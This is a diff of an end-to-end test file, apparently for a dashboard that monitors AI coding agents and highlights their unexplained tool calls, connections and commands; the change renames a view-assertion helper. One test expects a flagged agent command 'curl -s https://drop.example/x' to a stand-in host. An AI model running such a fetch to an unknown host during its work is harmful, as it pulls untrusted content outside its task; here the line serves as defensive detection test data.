@@ -4,7 +4,7 @@ import { AgentSession, agentPid, landAgentRecords, workFolder } from '../cases/a
 import { chromiumMissing } from '../services/chromium.ts';
 import { type Harness, startHarness } from './api-harness.ts';
 import { type Chromium, startChromium } from './chromium.ts';
-import { holdsAsAView, signedInAt } from './page-walk.ts';
+import { assertView, signedInAt } from './page-walk.ts';
 
 let harness: Harness;
 let chromium: Chromium;
@@ -39,7 +39,7 @@ declare('an agent leads to its processes with their coverage, and to its connect
   await page.getByRole('heading', { name: 'Claude Code on laptop' }).waitFor();
   t.regex((await page.locator('main').textContent()) ?? '', /Captured.*plaintext of/);
   await page.locator('tr.is-unexplained', { hasText: 'drop.example' }).waitFor();
-  await holdsAsAView(t, tab, '.agents .tiles');
+  await assertView(t, tab, '.agents .tiles');
 });
 
 declare('a session shows prompts and tool calls next to effects, with unexplained ones highlighted', async (t) => {
@@ -53,7 +53,7 @@ declare('a session shows prompts and tool calls next to effects, with unexplaine
     (await page.locator('.agent-effect.stated').textContent()) ?? '',
     /Write.*src\/cart\.ts.*a call of Edit names the path/,
   );
-  await holdsAsAView(t, tab, '.agent-effect.stated');
+  await assertView(t, tab, '.agent-effect.stated');
 });
 
 declare('a risk leads to the turn of its session', async (t) => {
@@ -62,7 +62,7 @@ declare('a risk leads to the turn of its session', async (t) => {
   await signedInAt(tab, harness.url, '/agents/risks');
   const row = page.locator('main tbody tr', { hasText: 'Unexplained command of an agent' });
   t.regex((await row.textContent()) ?? '', /curl -s https:\/\/drop\.example\/x/);
-  await holdsAsAView(t, tab, 'main tbody');
+  await assertView(t, tab, 'main tbody');
   await row.getByRole('link', { name: 'turn 1' }).click();
   await page.locator('.agent-effect.unexplained').first().waitFor();
 });
